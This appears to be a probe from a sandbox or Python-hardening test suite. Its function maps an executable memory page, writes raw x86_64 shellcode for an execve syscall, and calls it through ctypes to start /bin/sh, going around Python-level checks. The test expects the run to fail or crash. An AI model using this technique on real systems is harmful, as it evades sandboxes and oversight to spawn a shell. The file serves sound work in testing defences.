"""Runs machine code of its own: a raw execve of a shell, out of sight of everything in Python.

Ends: RETURNED -1 or CRASHED
"""

import ctypes
import mmap
import platform


def attack(facts):
    if platform.machine() != "x86_64":
        return -1
    # mov rax, 59 (execve); syscall; ret, called with the path of a shell.
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\x48\xc7\xc0\x3b\x00\x00\x00\x0f\x05\xc3")
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)
    result = call(ctypes.addressof(ctypes.c_char.from_buffer(page)))(b"/bin/sh", None, None)
    return -1 if result < 0 else result
